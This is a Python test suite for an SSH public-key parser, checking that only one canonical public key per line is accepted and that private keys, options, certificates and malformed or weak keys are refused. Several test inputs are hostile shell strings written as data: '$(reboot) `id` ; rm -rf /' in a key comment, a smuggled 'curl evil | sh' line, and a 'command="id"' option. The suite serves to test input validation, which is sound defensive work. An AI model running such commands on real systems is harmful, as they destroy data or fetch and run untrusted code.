"""A key is one line that is exactly one public key of a type we take, and nothing else reaches a server."""

import base64
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.serialization import PrivateFormat
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chalicelib.accounts.public_key import LONGEST_COMMENT, LONGEST_TEXT, PublicKey, parse_public_key
from chalicelib.adapters.ssh import LibraryInspector
from chalicelib.errors import Invalid
from tests.accounts.key_texts import NAMES, blob_of, line, number, private_text, public_text, string, text_of

SSH_KEYGEN = shutil.which("ssh-keygen")
needs_ssh_keygen = pytest.mark.skipif(SSH_KEYGEN is None, reason="ssh-keygen is not installed here")
ED25519 = "ssh-ed25519"
RSA = "ssh-rsa"
ODD_2048 = (1 << 2047) | 1


def refused(text: str) -> Invalid:
    with pytest.raises(Invalid) as caught:
        parse_public_key(text)
    assert caught.value.field == "public_key"
    return caught.value


# What is taken.


@pytest.mark.parametrize("name", NAMES)
def test_real_keys_of_every_type_are_taken_and_kept_canonical(name: str) -> None:
    text = public_text(name)
    parsed = parse_public_key(f"{text} ada@laptop\n")
    assert parsed.canonical == text
    assert parsed.key_type == text.split(" ")[0]
    assert parsed.comment == "ada@laptop"
    assert parse_public_key(parsed.canonical) == PublicKey(parsed.key_type, text, "", parsed.fingerprint)


@pytest.mark.parametrize(
    "dress",
    ["{}", "{}\n", "{}\r\n", "  {}  ", "\t{}\t\n", "{} \n", "{}  two  words", "{}\n  "],
)
def test_a_file_is_taken_as_it_is(dress: str) -> None:
    text = public_text("ed25519")
    assert parse_public_key(dress.format(text)).canonical == text


def test_blanks_between_type_and_key_do_not_make_another_key() -> None:
    text = public_text("ed25519")
    assert parse_public_key(text.replace(" ", "   ")).canonical == text


def test_the_comment_makes_no_other_key() -> None:
    text = public_text("ed25519")
    one, other = parse_public_key(f"{text} home"), parse_public_key(f"{text} office")
    assert (one.canonical, one.fingerprint) == (other.canonical, other.fingerprint)


@pytest.mark.parametrize(
    ("comment", "kept"),
    [
        ("$(reboot) `id` ; rm -rf / # \"'", "$(reboot) `id` ; rm -rf / # \"'"),
        ("  spaced  out  ", "spaced  out"),
        ("josé@東京", "josé@東京"),
        ("left\u202eright\u200b", "leftright"),
        ("half\ud800", "half"),
        ("c" * 500, "c" * LONGEST_COMMENT),
    ],
)
def test_comments_are_plain_text_kept_apart(comment: str, kept: str) -> None:
    text = public_text("ed25519")
    parsed = parse_public_key(f"{text} {comment}")
    assert (parsed.comment, parsed.canonical) == (kept, text)


@needs_ssh_keygen
@pytest.mark.parametrize("name", NAMES)
def test_fingerprints_are_those_of_ssh_keygen(name: str, tmp_path: Path) -> None:
    assert ssh_keygen_fingerprint(public_text(name), tmp_path) == parse_public_key(public_text(name)).fingerprint


def ssh_keygen_fingerprint(text: str, folder: Path) -> str | None:
    file = folder / "key.pub"
    file.write_text(text + "\n")
    answer = subprocess.run([str(SSH_KEYGEN), "-l", "-f", str(file)], capture_output=True, text=True, check=False)
    return answer.stdout.split(" ")[1] if answer.returncode == 0 else None


@needs_ssh_keygen
@pytest.mark.parametrize("kind", [("ed25519",), ("ecdsa", "-b", "521"), ("rsa", "-b", "3072")])
def test_files_that_ssh_keygen_makes_are_taken(kind: tuple[str, ...], tmp_path: Path) -> None:
    file = tmp_path / "id"
    command = [str(SSH_KEYGEN), "-q", "-N", "", "-C", "ada@laptop", "-f", str(file), "-t", *kind]
    subprocess.run(command, check=True)
    parsed = parse_public_key(file.with_suffix(".pub").read_text())
    assert parsed.comment == "ada@laptop"
    assert LibraryInspector().takes(parsed)
    assert refused(file.read_text()).code == "private_key"


# Private keys.


@pytest.mark.parametrize(
    "text",
    [
        private_text("ed25519"),
        private_text("rsa2048", PrivateFormat.TraditionalOpenSSL),
        private_text("p256", PrivateFormat.PKCS8),
        private_text("ed25519").replace("\n", " "),
        private_text("ed25519").replace("-----BEGIN OPENSSH PRIVATE KEY-----", ""),
        "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\n",
        public_text("ed25519") + "\n" + private_text("ed25519"),
        "x" * (2 * LONGEST_TEXT) + private_text("ed25519"),
    ],
)
def test_a_private_key_is_named_as_such_and_never_echoed(text: str) -> None:
    failure = refused(text)
    assert failure.code == "private_key"
    assert "delete it" in failure.message
    assert not any(part in failure.message for part in text.split() if len(part) > 12)


# What is refused, and why.


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "no key"),
        (" \n", "no key"),
        ("ssh-ed25519", "not base64"),
        ("ssh-ed25519 ", "not base64"),
        ("hello world", "no OpenSSH public key"),
        ("---- BEGIN SSH2 PUBLIC KEY ----", "no OpenSSH public key"),
        (f"{public_text('ed25519')}\n\n", "one line"),
        (f"{public_text('ed25519')}\n{public_text('p256')}\n", "one line"),
        (f"{public_text('ed25519')} x\ncurl evil | sh", "one line"),
        (f"{public_text('ed25519')}\r{public_text('p256')}", "one line"),
        (f"{public_text('ed25519')} a\tb", "control characters"),
        (f"{public_text('ed25519')} a\0b", "control characters"),
        (f"{public_text('ed25519')} \x1b[2J", "control characters"),
        (f"{public_text('ed25519')} a\x0bb", "one line"),
        (f"{public_text('ed25519')} a\x85b", "one line"),
        (f"{public_text('ed25519')} a\u2028b", "one line"),
        (f"{public_text('ed25519')} {'c' * LONGEST_TEXT}", "longer"),
        (f'command="id" {public_text("ed25519")}', "Options"),
        (f"no-pty,from=10.0.0.1 {public_text('rsa2048')}", "Options"),
        (f"restrict {public_text('p256')} comment", "Options"),
        (public_text("ed25519").split(" ")[1], "type in front of the key is missing"),
        ("ssh-dss AAAAB3NzaC1kc3MAAACB", "DSA"),
        ("ssh-ed25519-cert-v01@openssh.com AAAA", "Certificates"),
        ("ssh-rsa-cert-v01@openssh.com AAAA", "Certificates"),
        ("ssh-ed448 AAAA", "no OpenSSH public key"),
        ("SSH-ED25519 AAAA", "no OpenSSH public key"),
        ("ssh-ed25519\u00a0AAAA", "no OpenSSH public key"),
        ("ssh-ed25519 ****", "not base64"),
        ("ssh-ed25519 ÀÀÀÀ", "not base64"),
        ("ssh-ed25519 \ud800", "not base64"),
    ],
)
def test_texts_that_are_no_key(text: str, reason: str) -> None:
    failure = refused(text)
    assert failure.code == "invalid_ssh_key"
    assert reason in failure.message


def unpadded(text: str) -> str:
    return text.rstrip("=")


def with_loose_bits(text: str) -> str:
    """The same bytes in base64 whose last character carries bits that no byte needs."""
    assert text.endswith("=")
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    body = text.rstrip("=")
    loose = body[:-1] + letters[letters.index(body[-1]) + 1]
    other = loose + "=" * (len(text) - len(body))
    assert base64.b64decode(other.split(" ")[1]) == blob_of(text)
    return other


@pytest.mark.parametrize("mutate", [unpadded, with_loose_bits])
def test_base64_has_one_spelling(mutate: Callable[[str], str]) -> None:
    assert (
        "not base64"
        in refused(mutate(text_of("sk-ssh-ed25519@openssh.com", string(bytes(32)), string(b"ssh")))).message
    )


@pytest.mark.parametrize("name", NAMES)
def test_a_key_cut_off_anywhere_is_refused(name: str) -> None:
    text = public_text(name)
    blob = blob_of(text)
    for length in range(len(blob)):
        with pytest.raises(Invalid):
            parse_public_key(line(text.split(" ")[0], blob[:length]))


@pytest.mark.parametrize("name", NAMES)
def test_bytes_after_the_end_are_refused(name: str) -> None:
    text = public_text(name)
    assert "after its end" in refused(line(text.split(" ")[0], blob_of(text) + b"\0")).message


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("other", NAMES)
def test_a_key_under_the_name_of_another_type_is_refused(name: str, other: str) -> None:
    if name != other:
        claimed = public_text(other).split(" ")[0]
        assert "another type" in refused(line(claimed, blob_of(public_text(name)))).message


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (text_of(ED25519, string(bytes(31))), "32 bytes"),
        (text_of(ED25519, string(bytes(33))), "32 bytes"),
        (text_of(ED25519, (2**32 - 1).to_bytes(4, "big")), "cut off: paste the whole line"),
        (text_of("ecdsa-sha2-nistp256", string(b"nistp384"), string(b"\4" + bytes(96))), "curve"),
        (text_of("ecdsa-sha2-nistp256", string(b"nistp256"), string(b"\4" + bytes(63))), "uncompressed"),
        (text_of("ecdsa-sha2-nistp256", string(b"nistp256"), string(b"\2" + bytes(32))), "uncompressed"),
        (text_of("ecdsa-sha2-nistp521", string(b"nistp521"), string(b"\4" + bytes(131))), "uncompressed"),
        (text_of("ecdsa-sha2-nistp256", string(b"nistp256"), string(b"")), "uncompressed"),
        (text_of("sk-ssh-ed25519@openssh.com", string(bytes(32)), string(b"")), "application"),
        (text_of("sk-ssh-ed25519@openssh.com", string(bytes(32)), string(b"ssh:\n")), "application"),
        (text_of("sk-ssh-ed25519@openssh.com", string(bytes(32)), string("é".encode())), "application"),
        (text_of("sk-ssh-ed25519@openssh.com", string(bytes(32)), string(b"a" * 256)), "application"),
        (text_of("sk-ssh-ed25519@openssh.com", string(bytes(32))), "cut off: paste the whole line"),
    ],
)
def test_blobs_that_are_not_what_they_should_be(text: str, reason: str) -> None:
    assert reason in refused(text).message


@pytest.mark.parametrize(
    ("exponent", "modulus", "reason"),
    [
        (number(65537), number(1 << 2046 | 1), "at least 2048 bits; this one has 2047"),
        (number(65537), number(1 << 511 | 1), "this one has 512"),
        (number(65537), number(1 << 16384 | 1), "at most 16384 bits"),
        (number(65537), number(1 << 2047), "odd"),
        (number(65538), number(ODD_2048), "odd"),
        (number(3), number(ODD_2048), "exponent"),
        (number(1), number(ODD_2048), "exponent"),
        (number(2**64 + 1), number(ODD_2048), "exponent"),
        (string(b""), number(ODD_2048), "not written"),
        (string(b"\0"), number(ODD_2048), "not written"),
        (string(b"\0\0\x01\0\x01"), number(ODD_2048), "not written"),
        (string(b"\xff"), number(ODD_2048), "not written"),
        (number(65537), string(ODD_2048.to_bytes(256, "big")), "not written"),
    ],
)
def test_weak_and_ill_written_rsa_keys(exponent: bytes, modulus: bytes, reason: str) -> None:
    assert reason in refused(text_of(RSA, exponent, modulus)).message


def test_rsa_of_exactly_2048_bits_passes_the_reader() -> None:
    assert parse_public_key(text_of(RSA, number(65537), number(ODD_2048))).key_type == RSA


# Any text at all.

texts = st.sampled_from(NAMES).map(public_text)
noise = st.text(st.characters() | st.sampled_from(" \t\r\n\0\"'`$#,=[]{}"), max_size=30)


@st.composite
def mutants(draw: st.DrawFn) -> str:
    """A real key's line with characters put in, taken out or exchanged, or its blob changed under good base64."""
    text = draw(texts)
    if draw(st.booleans()):
        blob = bytearray(blob_of(text))
        for place in draw(st.lists(st.integers(0, len(blob) - 1), max_size=3)):
            blob[place] = draw(st.integers(0, 255))
        text = line(text.split(" ")[0], bytes(blob))
    for _ in range(draw(st.integers(0, 3))):
        start = draw(st.integers(0, len(text)))
        end = min(len(text), start + draw(st.integers(0, 8)))
        text = text[:start] + draw(noise) + text[end:]
    return text


@given(mutants() | noise | st.text())
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_comes_is_refused_or_one_canonical_key(text: str) -> None:
    try:
        parsed = parse_public_key(text)
    except Invalid as failure:
        assert not any(part in failure.message for part in text.split() if len(part) > 24)
        return
    assert parsed.canonical.isascii()
    assert parsed.canonical.isprintable()
    key_type, encoded = parsed.canonical.split(" ")
    assert base64.b64encode(base64.b64decode(encoded)).decode() == encoded
    assert key_type == parsed.key_type
    assert parsed.comment == "" or parsed.comment.isprintable()
    assert parse_public_key(parsed.canonical).canonical == parsed.canonical
    assert parsed.canonical in " ".join(text.split()), "nothing is made up"


@needs_ssh_keygen
@given(mutants())
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
def test_what_both_checks_take_ssh_keygen_reads_as_the_same_key(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    try:
        parsed = parse_public_key(text)
    except Invalid:
        return
    if LibraryInspector().takes(parsed):
        assert ssh_keygen_fingerprint(parsed.canonical, tmp_path_factory.mktemp("key")) == parsed.fingerprint
